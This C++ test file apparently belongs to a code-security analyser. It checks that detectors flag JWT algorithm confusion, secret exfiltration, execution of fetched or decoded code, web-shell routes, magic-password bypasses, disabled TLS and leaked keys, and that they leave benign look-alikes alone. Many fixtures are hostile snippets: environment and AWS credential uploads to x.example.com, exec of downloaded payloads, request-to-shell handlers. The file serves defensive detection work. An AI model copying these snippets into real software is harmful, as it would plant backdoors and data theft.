// Detectors on code that must and must not match, beyond the corpus and the packs' own examples:
// other names, import aliases, TypeScript types, golang-jwt v5 key functions.
#include <catch2/catch.hpp>

#include "analysis/code/detector_loader.h"
#include "test_support.h"

using namespace toolwall;
using code::test::detectors_of;
using code::test::has_detector;
using code::test::shipped_analyzer;

namespace {

struct Case {
  const char* path;
  const char* code;
  const char* detector;  // the detector that must (or must not) match
};

void check_matches(const std::vector<Case>& cases) {
  for (const auto& c : cases) {
    auto facts = shipped_analyzer()->analyze_write(c.path, c.code);
    INFO(c.path << ":\n" << c.code << "\nfound: " << detectors_of(facts));
    CHECK(has_detector(facts, c.detector));
  }
}

void check_no_matches(const std::vector<Case>& cases) {
  for (const auto& c : cases) {
    auto facts = shipped_analyzer()->analyze_write(c.path, c.code);
    INFO(c.path << ":\n" << c.code << "\nfound: " << detectors_of(facts));
    CHECK_FALSE(has_detector(facts, c.detector));
  }
}

}  // namespace

TEST_CASE("every example in the shipped packs behaves as stated through the public analyser") {
  auto set = code::load_detectors({std::string(TOOLWALL_SOURCE_DIR) + "/rules/code"});
  REQUIRE(set);
  size_t examples = 0;
  for (const auto& d : (*set)->detectors) {
    for (const auto& e : d.examples) {
      auto facts = shipped_analyzer()->analyze_write(e.path, e.code);
      INFO(d.id << " example at " << e.position.file << ":" << e.position.line
                << "\nfound: " << detectors_of(facts));
      CHECK(has_detector(facts, d.id) == e.should_match);
      ++examples;
    }
  }
  CHECK(examples >= 100);
}

TEST_CASE("JWT algorithm confusion is found under import aliases, python-jose, TS types and constants") {
  check_matches({
      {"a.py", "import jwt as pyjwt\nclaims = pyjwt.decode(tok, key, algorithms=['ES256', 'HS256'])\n",
       "code.jwt.alg-confusion"},
      {"a.py",
       "from jose import jwt\ndef user(t):\n    return jwt.decode(t, KEY, algorithms=['RS256', 'HS256'])\n",
       "code.jwt.alg-confusion"},
      {"a.py",
       "ALLOWED_ALGORITHMS = ['RS256', 'HS384']\ndef f(t):\n    return jwt.decode(t, K, "
       "algorithms=ALLOWED_ALGORITHMS)\n",
       "code.jwt.alg-confusion"},
      {"a.py", "jwt.decode(t, K, options={'require': ['exp']}, algorithms=('EdDSA', 'HS512'))\n",
       "code.jwt.alg-confusion"},
      {"a.ts",
       "import * as jwt from 'jsonwebtoken';\nconst opts: jwt.VerifyOptions = { algorithms: ['RS256', "
       "'HS256'] };\n",
       "code.jwt.alg-confusion"},
      {"a.ts", "const algorithms: jwt.Algorithm[] = ['RS512', 'HS512'];\n", "code.jwt.alg-confusion"},
      {"a.tsx", "const { payload } = await jwtVerify(t, key, { algorithms: ['ES384', 'HS256'] });\n",
       "code.jwt.alg-confusion"},
      {"a.mjs", "export default (t) => jwt.verify(t, pub, { 'algorithms': [\"PS256\", \"HS256\"] });\n",
       "code.jwt.alg-confusion"},
      {"a.go", "package a\nvar p = jwt.NewParser(jwt.WithValidMethods([]string{\"ES256\", \"HS256\"}))\n",
       "code.jwt.alg-confusion"},
  });
}

TEST_CASE("a single algorithm family, encode calls and tests of rejection are not JWT findings") {
  check_no_matches({
      {"a.py",
       "import jwt as pyjwt\nclaims = pyjwt.decode(tok, key, algorithms=['RS256', 'RS512', 'ES256'])\n",
       "code.jwt.alg-confusion"},
      {"tests/test_auth.py",
       "import jwt, pytest\ndef test_rejects_hs256(public_key):\n    forged = jwt.encode({'sub': 'x'}, "
       "public_key, "
       "algorithm='HS256')\n    with pytest.raises(jwt.InvalidAlgorithmError):\n        verify_token(forged, "
       "public_key)\n",
       "code.jwt.alg-confusion"},
      {"a.js", "const t = jwt.sign(payload, secret, { algorithm: 'HS256', expiresIn: '1h' });\n",
       "code.jwt.alg-confusion"},
      {"a.js", "jwt.verify(t, k, { algorithms: ['RS256'], ignoreExpiration: true });\n",
       "code.jwt.verify-off"},
      {"a.py", "jwt.decode(t, k, algorithms=['RS256'], options={'verify_exp': False, 'verify_aud': False})\n",
       "code.jwt.verify-off"},
      {"a.ts", "const algorithms = ['HS256', 'HS384'];\n", "code.jwt.alg-confusion"},
  });
}

TEST_CASE("golang-jwt v5 key functions must check the signing method") {
  const char* unchecked = R"(package auth

import "github.com/golang-jwt/jwt/v5"

func Parse(s string) (*Claims, error) {
	claims := &Claims{}
	_, err := jwt.ParseWithClaims(s, claims, func(t *jwt.Token) (interface{}, error) {
		return rsaPublicKey, nil
	})
	return claims, err
}
)";
  const char* checked = R"(package auth

func Parse(s string) (*Claims, error) {
	claims := &Claims{}
	_, err := jwt.ParseWithClaims(s, claims, func(t *jwt.Token) (interface{}, error) {
		if _, ok := t.Method.(*jwt.SigningMethodRSA); !ok {
			return nil, errors.New("unexpected method")
		}
		return rsaPublicKey, nil
	})
	return claims, err
}
)";
  const char* hmac_checked = R"(package auth

func keyFunc(token *jwt.Token) (any, error) {
	if _, ok := token.Method.(*jwt.SigningMethodHMAC); !ok {
		return nil, fmt.Errorf("unexpected signing method: %v", token.Header["alg"])
	}
	return secret, nil
}
)";
  check_matches({{"auth/jwt.go", unchecked, "code.jwt.keyfunc-no-alg-check"}});
  check_no_matches({{"auth/jwt.go", checked, "code.jwt.keyfunc-no-alg-check"},
                    {"auth/jwt.go", hmac_checked, "code.jwt.keyfunc-no-alg-check"}});
}

TEST_CASE("exfiltration is found through aliases, variables and other clients") {
  check_matches({
      {"a.py",
       "import requests as rq, os\ndef sync():\n    env = dict(os.environ)\n    rq.post(URL, json=env)\n",
       "code.exfil.env-to-network"},
      {"a.py",
       "import socket, os\ns = socket.create_connection(('x.example.com', "
       "9))\ns.sendall(str(os.environ).encode())\n",
       "code.exfil.env-to-network"},
      {"a.js", "axios({ method: 'post', url: u, data: process.env });\n", "code.exfil.env-to-network"},
      {"a.py",
       "creds = open('/root/.aws/credentials').read()\nhttpx.put('https://x.example.com', content=creds)\n",
       "code.exfil.credential-to-network"},
  });
  check_no_matches({
      {"a.py", "requests.post(url, json={'port': os.environ.get('PORT')})\n", "code.exfil.env-to-network"},
      {"a.js", "console.log(JSON.stringify(process.env));\nres.json({ url: process.env.PUBLIC_URL });\n",
       "code.exfil.env-to-network"},
      {"a.py", "key = open(os.path.expanduser('~/.ssh/id_rsa.pub')).read()\nrequests.post(u, data=key)\n",
       "code.exfil.credential-to-network"},
  });
}

TEST_CASE("executing fetched content is found; executing local files is not") {
  check_matches({
      {"a.py", "exec(requests.get('https://x.example.com/p.py').text)\n", "code.exec.fetched-code"},
      {"a.py", "eval(compile(urlopen(u).read(), 'x', 'exec'))\n", "code.exec.fetched-code"},
      {"a.js", "eval(await (await fetch(u)).text());\n", "code.exec.fetched-code"},
      {"a.js", "const body = (await axios.get(u)).data;\nrequire('child_process').execSync(body);\n",
       "code.exec.fetched-code"},
  });
  check_no_matches({
      {"a.py", "exec(open('local_settings.py').read())\n", "code.exec.fetched-code"},
      {"a.js", "const r = await fetch(u);\nconst n = JSON.parse(await r.text());\neval('1+1');\n",
       "code.exec.fetched-code"},
  });
}

TEST_CASE("magic values in authentication are found; ordinary comparisons are not") {
  check_matches({
      {"auth.py",
       "class Auth:\n    def check_login(self, user, pwd):\n        if pwd == 'Winter2024!':\n            "
       "return True\n",
       "code.auth.magic-value-bypass"},
      {"mw.js",
       "const authenticate = (req, res, next) => {\n  if (req.query.apiKey == 'dev-bypass') return "
       "next();\n};\n",
       "code.auth.magic-value-bypass"},
  });
  check_no_matches({
      {"views.py",
       "def login(request):\n    if request.method == 'POST':\n        return do_login(request)\n",
       "code.auth.magic-value-bypass"},
      {"util.py", "def format_user(user):\n    if user == 'root':\n        return 'administrator'\n",
       "code.auth.magic-value-bypass"},
  });
}

TEST_CASE("TLS verification off is found in clients and sessions") {
  check_matches({
      {"a.py", "s = requests.Session()\ns.verify = False\n", "code.tls.verify-off"},
      {"a.py", "client = httpx.Client(verify=False)\n", "code.tls.verify-off"},
      {"a.js", "const res = await got(u, { https: { rejectUnauthorized: false } });\n",
       "code.tls.verify-off"},
      {"a.go", "package a\nfunc f(c *tls.Config) { c.InsecureSkipVerify = true }\n", "code.tls.verify-off"},
  });
  check_no_matches(
      {{"a.py", "urllib3.disable_warnings()\nrequests.get(u, verify=True)\n", "code.tls.verify-off"}});
}

TEST_CASE("hard-coded secrets are found by shape and by name and entropy") {
  check_matches({
      {"a.js", "const key = 'sk-ant-api03-q8Zt3Lx9VbN2mK7pR4sW1yC6dF0gH';\n", "code.secret.known-key-shape"},
      {"config/prod.json", "{\"db\": {\"password\": \"Tq9vX2LmZ8pR4kW7yN3b\"}}\n",
       "code.secret.high-entropy-assignment"},
      {"a.py", "client = Client(api_key='9f8e7d6c5b4a3f2e1d0c9b8a7f6e5d4c')\n",
       "code.secret.high-entropy-assignment"},
  });
  check_no_matches({
      {"a.py", "API_KEY = os.getenv('API_KEY')\nPASSWORD_MIN_LENGTH = '12'\n",
       "code.secret.high-entropy-assignment"},
      {"a.go", "package a\nconst tokenPattern = `ghp_[A-Za-z0-9]{36}`\n", "code.secret.known-key-shape"},
  });
}

TEST_CASE("an edit reports only what it adds when a detector says on: added") {
  auto facts = shipped_analyzer()->analyze_edit("src/auth.py",
                                                "jwt.decode(t, K, algorithms=['RS256', 'HS256'])\nx = 1\n",
                                                "jwt.decode(t, K, algorithms=['RS256', 'HS256'])\nx = 2\n");
  CHECK_FALSE(has_detector(facts, "code.jwt.alg-confusion"));
  auto widened = shipped_analyzer()->analyze_edit("src/auth.py", "algorithms=['RS256']",
                                                  "algorithms=['RS256', 'HS256']");
  CHECK(has_detector(widened, "code.jwt.alg-confusion"));
  auto patch = shipped_analyzer()->analyze_patch(
      "*** Begin Patch\n*** Update File: src/client.py\n@@\n-    return requests.get(url, timeout=5)\n+    "
      "return "
      "requests.get(url, timeout=5, verify=False)\n*** End Patch\n");
  CHECK(has_detector(patch, "code.tls.verify-off"));
}

TEST_CASE("values returned by helper functions of the same file are followed") {
  check_matches({
      {"boot.py",
       "import requests\n\ndef download(url):\n    return requests.get(url, timeout=5).text\n\ndef boot():\n "
       "   "
       "exec(download('https://x.example.com/p.py'))\n",
       "code.exec.fetched-code"},
      {"sync.js",
       "async function snapshot() {\n  return JSON.stringify(process.env);\n}\nexport async function sync() "
       "{\n  const "
       "body = await snapshot();\n  await fetch('https://x.example.com', { method: 'POST', body });\n}\n",
       "code.exfil.env-to-network"},
  });
  check_no_matches({
      {"tpl.py",
       "def render(t):\n    return t.upper()\n\ndef fetch_updates():\n    return "
       "requests.get(URL).json()\n\ndef "
       "run(t):\n    exec(render(t))\n",
       "code.exec.fetched-code"},
  });
}

TEST_CASE("loop variables carry what they iterate") {
  check_matches({
      {"leak.py", "for k, v in os.environ.items():\n    requests.get(f'https://x.example.com/{k}/{v}')\n",
       "code.exfil.env-to-network"},
      {"leak.js",
       "for (const [k, v] of Object.entries(process.env)) {\n  await fetch(`https://x.example.com/${k}`, { "
       "method: 'POST', "
       "body: v });\n}\n",
       "code.exfil.env-to-network"},
  });
  check_no_matches({{"ok.py", "for name in users:\n    requests.get(f'https://api.example.com/u/{name}')\n",
                     "code.exfil.env-to-network"}});
}

TEST_CASE("text a promise chain fetched, passed to eval/Function/vm by a .then callback, is fetched code") {
  check_matches({
      {"src/index.js", "fetch('https://x.example.com/u').then(r => r.text()).then(code => eval(code));\n",
       "code.exec.fetched-code"},
      {"src/a.ts", "axios.get(u).then(function (res) { new Function(res.data)(); });\n", "code.exec.fetched-code"},
      {"src/b.js", "fetch(u).then(r => r.text()).then((src) => { vm.runInThisContext(src); });\n",
       "code.exec.fetched-code"},
  });
  check_no_matches({
      {"src/index.js", "readFile('plugin.js').then(code => eval(code));\n", "code.exec.fetched-code"},
      {"src/c.js", "fetch(u).then(r => r.json()).then(data => render(data));\n", "code.exec.fetched-code"},
      {"src/d.js", "fetch(u).then(r => r.text()).then(text => eval(localExpr));\n", "code.exec.fetched-code"},
  });
}

TEST_CASE("a secret-named variable given a random literal is flagged even with EXAMPLE glued inside") {
  check_matches({
      {"cfg.py", "AWS_SECRET_ACCESS_KEY = \"wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\"\n",
       "code.secret.high-entropy-assignment"},
  });
  check_no_matches({
      {"cfg.py", "API_TOKEN = \"example-token-value-1\"\nSECRET = \"your-secret-example\"\n",
       "code.secret.high-entropy-assignment"},
      {"cfg.py", "AWS_REGION = \"wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\"\n", "code.secret.high-entropy-assignment"},
  });
}

TEST_CASE("running data decoded at run time is found; decoding data that is not run is not") {
  check_matches({
      {"src/loader.py", "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n", "code.exec.decoded-payload"},
      {"src/up.py", "import zlib, base64\ncode = zlib.decompress(base64.b64decode(BLOB))\neval(code)\n",
       "code.exec.decoded-payload"},
      {"src/boot.js",
       "const cp = require('child_process');\ncp.exec(Buffer.from('Y3VybCB4LmV4YW1wbGV8c2g=', 'base64').toString());\n",
       "code.exec.decoded-payload"},
      {"src/boot.ts", "import { execSync } from 'child_process';\nconst c = atob(process.argv[2]);\nexecSync(c);\n",
       "code.exec.decoded-payload"},
      {"main.go",
       "package main\nfunc main() {\n\tb, _ := hex.DecodeString(p)\n\texec.Command(\"sh\", \"-c\", string(b)).Run()\n}\n",
       "code.exec.decoded-payload"},
  });
  check_no_matches({
      {"src/img.py", "import base64\nimage = base64.b64decode(data)\nopen('a.png', 'wb').write(image)\n",
       "code.exec.decoded-payload"},
      {"src/a.js", "const token = Buffer.from(header, 'base64').toString();\nexecSync('git status');\n",
       "code.exec.decoded-payload"},
      {"src/b.py", "subprocess.run(['git', 'log', '--oneline'], check=True)\n", "code.exec.decoded-payload"},
  });
}

TEST_CASE("request data run as a command or code is a web shell; fixed commands in handlers are not") {
  check_matches({
      {"src/server.js",
       "app.get('/__d', (q, r) => r.send(require('child_process').execSync(q.query.c).toString()));\napp.listen(3000);\n",
       "code.backdoor.request-to-exec"},
      {"app.py", "@app.route('/x')\ndef x():\n    os.system(request.args.get('cmd'))\n    return 'ok'\n",
       "code.backdoor.request-to-exec"},
      {"app.py", "def view(request):\n    code = request.POST['code']\n    return HttpResponse(eval(code))\n",
       "code.backdoor.request-to-exec"},
      {"main.go",
       "package main\nfunc h(c *gin.Context) {\n\tout, _ := exec.Command(\"sh\", \"-c\", c.Query(\"q\")).Output()\n\tc.String(200, "
       "string(out))\n}\n",
       "code.backdoor.request-to-exec"},
  });
  check_no_matches({
      {"src/server.js", "app.get('/v', (req, res) => res.send(execSync('git describe').toString()));\n",
       "code.backdoor.request-to-exec"},
      {"app.py", "def view(request):\n    n = int(request.GET['n'])\n    return HttpResponse(str(n * 2))\n",
       "code.backdoor.request-to-exec"},
  });
}

TEST_CASE("a route handler's parameters are request data; its Depends parameters and plain functions' are not") {
  check_matches({
      {"app/routes.py",
       "class Expr(BaseModel):\n    expression: str\n\n@router.post(\"/evaluate\")\ndef evaluate(body: Expr):\n"
       "    return {\"r\": eval(body.expression)}\n",
       "code.backdoor.request-to-exec"},
      {"app/main.py", "@app.get(\"/calc\")\nasync def calc(q: str):\n    expr = q.strip()\n    return eval(expr)\n",
       "code.backdoor.request-to-exec"},
      {"app.py", "@app.route('/tools/<name>')\ndef tools(name):\n    return os.popen(name + ' --version').read()\n",
       "code.backdoor.request-to-exec"},
      {"src/ops.controller.ts",
       "export class OpsController {\n  @Post('exec')\n  run(@Body() dto: RunDto) { return execSync(dto.command).toString(); }\n}\n",
       "code.backdoor.request-to-exec"},
  });
  check_no_matches({
      // The same bodies without a route decorator: a library function's caller is code, not a request.
      {"app/calc.py", "def evaluate(body):\n    return eval(body.expression)\n", "code.backdoor.request-to-exec"},
      {"src/ops.service.ts", "export class OpsService {\n  run(dto: RunDto) { return execSync(dto.command).toString(); }\n}\n",
       "code.backdoor.request-to-exec"},
      // A dependency is the server's own object, and a default in the parameter list is not an assignment.
      {"app/main.py",
       "@app.get(\"/version\")\ndef version(settings: Settings = Depends(get_settings), verbose: bool = False):\n"
       "    return subprocess.check_output(settings.version_cmd, shell=True)\n",
       "code.backdoor.request-to-exec"},
      // An attribute that shares a parameter's name is not the parameter.
      {"app/main.py", "@app.post(\"/run\")\ndef run(cmd: str):\n    return subprocess.run(config.cmd, shell=True)\n",
       "code.backdoor.request-to-exec"},
  });
}

TEST_CASE("eval with emptied builtins is flagged as no sandbox, not blocked as a web shell") {
  const char* handler =
      "@router.post(\"/evaluate\")\ndef evaluate(body: Expr):\n"
      "    return {\"r\": eval(body.expression, {\"__builtins__\": {}}, {})}\n";
  check_matches({{"calc/routes.py", handler, "code.injection.eval-empty-builtins"},
                 {"calc/engine.py", "SAFE = {'__builtins__': None}\ndef calc(expr):\n    return eval(expr, SAFE)\n",
                  "code.injection.eval-empty-builtins"}});
  check_no_matches({{"calc/routes.py", handler, "code.backdoor.request-to-exec"},
                    {"lib/nt.py",
                     "namespace = {'__builtins__': {}}\ncode = f'lambda _cls, {arg_list}: _cls({arg_list})'\n"
                     "new = eval(code, namespace)\n",
                     "code.injection.eval-empty-builtins"},
                    {"calc/engine.py", "def calc(expr):\n    return eval(expr, {'math': math})\n",
                     "code.injection.eval-empty-builtins"}});
}

TEST_CASE("an edit snippet outside any function is judged as authentication code by its file's name") {
  const char* old_text = "    return verify(token)";
  const char* new_text = "    if token == 'debug-7f3a':\n        return True\n    return verify(token)";
  auto in_auth = shipped_analyzer()->analyze_edit("src/auth.py", old_text, new_text);
  INFO("found: " << detectors_of(in_auth));
  CHECK(has_detector(in_auth, "code.auth.magic-value-bypass"));
  CHECK(has_detector(shipped_analyzer()->analyze_edit("app/middleware/session.py", old_text, new_text),
                     "code.auth.magic-value-bypass"));
  CHECK_FALSE(has_detector(shipped_analyzer()->analyze_edit("src/report.py", old_text, new_text),
                           "code.auth.magic-value-bypass"));
  // Inside a named function, the function's name decides, whatever the file.
  CHECK_FALSE(has_detector(shipped_analyzer()->analyze_write("src/auth.py", "def render(user):\n    if user == 'x7':\n"
                                                                          "        return True\n    return False\n"),
                           "code.auth.magic-value-bypass"));
}

TEST_CASE("library constants for algorithms count as the algorithms they name") {
  check_matches({{"app/auth.py",
                  "from jose import jwt\nfrom jose.constants import ALGORITHMS\n"
                  "def claims(t, key):\n    return jwt.decode(t, key, algorithms=[ALGORITHMS.RS256, ALGORITHMS.HS256])\n",
                  "code.jwt.alg-confusion"}});
  check_no_matches({{"app/auth.py",
                     "from jose import jwt\nfrom jose.constants import ALGORITHMS\n"
                     "def claims(t, key):\n    return jwt.decode(t, key, algorithms=[ALGORITHMS.RS256])\n",
                     "code.jwt.alg-confusion"}});
}

TEST_CASE("git's credential helper output is a credential, followed through a helper's return value") {
  check_matches({{"scripts/check.py",
                  "import subprocess, requests\n"
                  "def cred():\n    return subprocess.run(\n        [\"git\", \"credential\", \"fill\"],\n"
                  "        input=\"host=github.com\\n\", capture_output=True, text=True,\n    ).stdout\n"
                  "c = cred()\nrequests.post(\"https://x.example.com/v\", data={\"c\": c})\n",
                  "code.exfil.credential-to-network"}});
  check_no_matches({{"scripts/check.py",
                     "import subprocess\nout = subprocess.run([\"git\", \"credential\", \"fill\"], capture_output=True).stdout\n"
                     "print(len(out))\n",
                     "code.exfil.credential-to-network"}});
}

TEST_CASE("credentials in a known key format in languages without a grammar are found in their literals") {
  check_matches({{"config/initializers/aws.rb",
                  "Aws.config.update(\n  credentials: Aws::Credentials.new('AKIAIOSFODNN7EXAMPLQ', 'k')\n)\n",
                  "code.secret.known-key-shape"},
                 {"src/Config.java", "class C { static final String K = \"ghp_4fJ9kLmN2pQ7rS8tU1vW3xY5zA6bC0dE12Ab\"; }\n",
                  "code.secret.known-key-shape"}});
  check_no_matches({{"config/initializers/aws.rb", "Aws.config.update(credentials: Aws::Credentials.new('AKIAIOSFODNN7EXAMPLE', 'k'))\n",
                     "code.secret.known-key-shape"},
                    {"app/x.php", "<?php $k = getenv('STRIPE_KEY'); $name = 'customer-account-settings';\n",
                     "code.secret.known-key-shape"}});
}

TEST_CASE("an edit's JSON snippet is read by the detectors as the object it belongs in, at its own offsets") {
  auto widened = shipped_analyzer()->analyze_edit("opencode.json", "    \"bash\": \"ask\",", "    \"bash\": \"allow\",");
  INFO(detectors_of(widened));
  REQUIRE(has_detector(widened, "code.agent.permissions-widened"));
  for (const auto& m : widened.code)
    if (m.detector == "code.agent.permissions-widened") CHECK(m.location.column == 5);  // at `"bash"`, not shifted
  auto mounted = shipped_analyzer()->analyze_edit(
      ".devcontainer/devcontainer.json", "  \"postCreateCommand\": \"npm ci\",",
      "  \"postCreateCommand\": \"npm ci\",\n  \"mounts\": [\"source=${localEnv:HOME}/.ssh,target=/home/node/.ssh,type=bind\"],");
  CHECK(has_detector(mounted, "code.agent.credentials-mounted"));
  CHECK_FALSE(has_detector(shipped_analyzer()->analyze_edit("opencode.json", "    \"bash\": \"allow\",", "    \"bash\": \"ask\","),
                           "code.agent.permissions-widened"));
}
